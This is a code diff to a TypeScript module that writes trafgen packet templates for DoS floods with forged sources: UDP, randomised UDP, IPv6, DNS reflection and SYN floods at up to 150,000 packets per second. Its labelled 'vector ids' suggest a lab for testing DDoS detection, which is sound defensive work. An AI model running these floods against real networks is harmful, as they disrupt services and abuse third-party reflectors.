@@ -1,18 +1,20 @@
-import { FORGED, GAME_PORT, ipv4Number, TCP_PORT } from './topology'
+import { FORGED, GAME_PORT, ipv4Number, ipv6Bytes, TCP_PORT } from './topology'
 
-/** Floods as trafgen packet descriptions. Pure: the same scenario always renders the same text for the same target. */
+/** Floods as trafgen packet descriptions. Pure: the same flood always renders the same text for the same target. */
 
-export const SCENARIOS = ['udp-flood', 'dns-reflection', 'syn-flood'] as const
-export type Scenario = (typeof SCENARIOS)[number]
+export const FLOODS = ['udp-flood', 'dns-reflection', 'syn-flood', 'udp-random', 'ipv6-flood'] as const
+export type FloodName = (typeof FLOODS)[number]
 
-export const VARIANTS = {
+export const FLOOD_VARIANTS = {
   'udp-flood': ['fixed', 'random'],
   'dns-reflection': ['any', 'txt'],
   'syn-flood': ['bare', 'options'],
-} as const satisfies Record<Scenario, readonly [string, ...string[]]>
+  'udp-random': ['random'],
+  'ipv6-flood': ['fixed', 'random'],
+} as const satisfies Record<FloodName, readonly [string, ...string[]]>
 
 export type Flood = {
-  scenario: Scenario
+  name: FloodName
   variant: string
   /** Frames each second that trafgen is asked for. */
   pps: number
@@ -21,24 +23,26 @@ export type Flood = {
   /** Vector ids that name this flood rightly. */
   vectorIds: string[]
   packets: string[]
+  /** Templates are picked at random, not in turn. */
+  shuffled?: true
 }
 
-export type Target = { address: string; mac: string; attackerMac: string }
+export type Target = { address: string; address6: string; mac: string; attackerMac: string }
 
 const ETHERNET_BYTES = 14
 const IPV4_BYTES = 20
+const IPV6_BYTES = 40
+const UDP_BYTES = 8
 
-export function isVariant(scenario: Scenario, variant: string): boolean {
-  return (VARIANTS[scenario] as readonly string[]).includes(variant)
-}
-
-export function planFlood(scenario: Scenario, variant: string, target: Target): Flood {
-  if (!isVariant(scenario, variant)) {
-    throw new Error(`${scenario} has no variant ${variant}; it has ${VARIANTS[scenario].join(', ')}`)
+export function planFlood(name: FloodName, variant: string, target: Target): Flood {
+  if (!(FLOOD_VARIANTS[name] as readonly string[]).includes(variant)) {
+    throw new Error(`${name} has no variant ${variant}; it has ${FLOOD_VARIANTS[name].join(', ')}`)
   }
-  if (scenario === 'udp-flood') return udpFlood(variant, target)
-  if (scenario === 'dns-reflection') return dnsReflection(variant, target)
-  return synFlood(variant, target)
+  if (name === 'udp-flood') return udpFlood(variant, target)
+  if (name === 'dns-reflection') return dnsReflection(variant, target)
+  if (name === 'syn-flood') return synFlood(variant, target)
+  if (name === 'udp-random') return udpRandom(variant, target)
+  return ipv6Flood(variant, target)
 }
 
 const ethernet = ({ mac, attackerMac }: Target): string => `eth(da=${mac}, sa=${attackerMac}, type=0x0800)`
@@ -53,12 +57,67 @@ function udpFlood(variant: string, target: Target): Flood {
   const random = lengths.map((length) => `{ ${header}, drnd(${length}) }`)
   const payload = variant === 'fixed' ? 64 : mean(lengths)
   return {
-    scenario: 'udp-flood',
+    name: 'udp-flood',
     variant,
     pps: 150_000,
-    frameBytes: ETHERNET_BYTES + IPV4_BYTES + 8 + payload,
+    frameBytes: ETHERNET_BYTES + IPV4_BYTES + UDP_BYTES + payload,
     vectorIds: variant === 'fixed' ? ['udp_flood_fixed', 'udp_flood_random'] : ['udp_flood_random'],
     packets: variant === 'fixed' ? fixed : random,
+  }
+}
+
+const TEMPLATES = 400
+const DATA_BYTES_MAX = 1_200
+
+/** Any length from none to a full datagram: so many lengths that no two packets in a row need be alike. */
+const anyLength = Array.from({ length: TEMPLATES }, (_, at) => Math.round((at * DATA_BYTES_MAX) / (TEMPLATES - 1)))
+
+/** Random data: the first bytes anew for each packet, the rest once for each template, as trafgen draws byte by byte. */
+const noise = (length: number): string[] => [
+  ...(length > 0 ? [`drnd(${Math.min(length, 32)})`] : []),
+  ...(length > 32 ? [`rnd(${length - 32})`] : []),
+]
+
+function udpRandom(variant: string, target: Target): Flood {
+  const header = `${ethernet(target)}, ipv4(sa=${anySource}, da=${target.address}, ttl=drnd(2, 255), id=drnd()), udp(sp=drnd(1024, 65535), dp=${GAME_PORT})`
+  return {
+    name: 'udp-random',
+    variant,
+    pps: 150_000,
+    frameBytes: ETHERNET_BYTES + IPV4_BYTES + UDP_BYTES + mean(anyLength),
+    vectorIds: ['udp_flood_random'],
+    packets: anyLength.map((length) => `{ ${[header, ...noise(length)].join(', ')} }`),
+    shuffled: true,
+  }
+}
+
+/** Written byte by byte: trafgen varies only four bytes of an IPv6 address by itself. */
+function ipv6Packet({ mac, attackerMac, address6 }: Target, hopLimit: string, length: number, data: string[]): string {
+  const fields = [
+    `eth(da=${mac}, sa=${attackerMac}, type=0x86dd)`,
+    `0x60, 0, 0, 0, c16(${UDP_BYTES + length}), 17, ${hopLimit}`,
+    `${bytes(FORGED.prefix6)}, drnd(${16 - FORGED.prefix6.length})`,
+    bytes(ipv6Bytes(address6)),
+    `drnd(2), c16(${GAME_PORT}), c16(${UDP_BYTES + length})`,
+    `csumudp6(${ETHERNET_BYTES}, ${ETHERNET_BYTES + IPV6_BYTES})`,
+    ...data,
+  ]
+  return `{ ${fields.join(', ')} }`
+}
+
+function ipv6Flood(variant: string, target: Target): Flood {
+  const isFixed = variant === 'fixed'
+  const data = ['0x5a, 0x10, 0x00, 0x7f, 0x00, 0x01', 'drnd(26)', 'fill(0x20, 32)']
+  const fixed = () => [44, 47, 50, 53, 56, 60].map((hopLimit) => ipv6Packet(target, `${hopLimit}`, 64, data))
+  const random = () => anyLength.map((length) => ipv6Packet(target, 'drnd(1)', length, noise(length)))
+  return {
+    name: 'ipv6-flood',
+    variant,
+    pps: 150_000,
+    frameBytes: ETHERNET_BYTES + IPV6_BYTES + UDP_BYTES + (isFixed ? 64 : mean(anyLength)),
+    vectorIds: isFixed ? ['udp_flood_fixed', 'udp_flood_random'] : ['udp_flood_random'],
+    packets: isFixed ? fixed() : random(),
+    shuffled: true,
   }
 }
 
@@ -108,10 +167,10 @@ function dnsReflection(variant: string, target: Target): Flood {
       `udp(sp=53, dp=drnd(1024, 65535)), drnd(2), ${bytes(body)} }`,
   )
   return {
-    scenario: 'dns-reflection',
+    name: 'dns-reflection',
     variant,
     pps: 100_000,
-    frameBytes: ETHERNET_BYTES + IPV4_BYTES + 8 + 2 + mean(bodies.map((body) => body.length)),
+    frameBytes: ETHERNET_BYTES + IPV4_BYTES + UDP_BYTES + 2 + mean(bodies.map((body) => body.length)),
     vectorIds: ['dns_amp'],
     packets,
   }
@@ -127,7 +186,7 @@ function synFlood(variant: string, target: Target): Flood {
   const ip = `ipv4(sa=${anySource}, da=${target.address}, ttl=drnd(44, 60), id=drnd(), df)`
   const tcp = `tcp(sp=drnd(1024, 65535), dp=${TCP_PORT}, seq=drnd(), doff=${words}, syn, win=${withOptions ? 64240 : 'drnd(512, 65535)'})`
   return {
-    scenario: 'syn-flood',
+    name: 'syn-flood',
     variant,
     pps: 150_000,
     frameBytes: ETHERNET_BYTES + IPV4_BYTES + words * 4,
